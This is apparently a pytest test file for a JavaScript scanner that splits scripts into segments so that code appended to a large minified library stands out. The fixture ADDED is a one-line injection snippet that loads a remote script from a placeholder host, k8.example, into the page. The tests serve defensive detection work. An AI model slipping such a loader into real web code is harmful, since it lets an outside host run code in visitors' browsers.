import pytest

from scanner.scripts import ends, stretches

LIBRARY = "!function(w){" + "w.a=w.a+1;" * 3000 + "}(window)"
ADDED = "var s=document.createElement('script');s.src='https://k8.example/a.js';document.head.appendChild(s);"


@pytest.mark.parametrize(
    "code",
    [
        f"{LIBRARY};{ADDED}",
        f"{LIBRARY}\n{ADDED}",
        f"{ADDED}{LIBRARY}",
        f"/* v3 */ {LIBRARY};\n\n{ADDED}",
        f"/* a library */ (function(){{{'f();' * 200}}})();{ADDED}",
    ],
    ids=["behind", "on a new line", "before", "after a comment", "of a short file"],
)
def test_what_was_added_stands_alone(code: str) -> None:
    assert any(ADDED in part and len(part) < len(code) / 2 for part in ends(code))


@pytest.mark.parametrize(
    "code",
    [
        LIBRARY,
        "function f(a){if(a)\nreturn 1}\n" * 800 + ADDED,
        f"{LIBRARY};x()",
        "a();b();",
        "",
        "var a='};'" + LIBRARY[1:],
        "x" * 2_000_000,
    ],
    ids=["one statement", "many functions", "next to nothing", "short", "empty", "brackets in a text", "too long"],
)
def test_a_body_alone_has_no_ends(code: str) -> None:
    assert ends(code) == ()


def test_a_statement_is_not_cut() -> None:
    code = "if (a)\n  b();\nelse {\n  c();\n}\n" + LIBRARY + ";" + ADDED + "var t = 1\n  + 2;"
    assert ends(code)[-1] == ADDED + "var t = 1\n  + 2;"


OWN = "function f(a){if(a){return g(a)+1}}\n"


@pytest.mark.parametrize("at", [0, 300, 900])
def test_a_long_script_is_read_a_few_statements_at_a_time(at: int) -> None:
    code = OWN * at + ADDED + "\n" + OWN * (900 - at)
    found = stretches(code)
    assert any(ADDED in part for part in found)
    assert all(len(part) < 5000 for part in found)


def test_what_follows_each_other_stands_together_in_one_stretch() -> None:
    assert any("var u=1;" + ADDED in part for part in stretches(OWN * 700 + "var u=1;" + ADDED + "\n" + OWN * 300))


@pytest.mark.parametrize("code", [OWN * 9 + ADDED, "!function(w){" + "w.a=w.a+1;" * 3000 + "}(window)"])
def test_of_a_short_script_or_one_statement_there_are_no_stretches(code: str) -> None:
    assert stretches(code) == ()
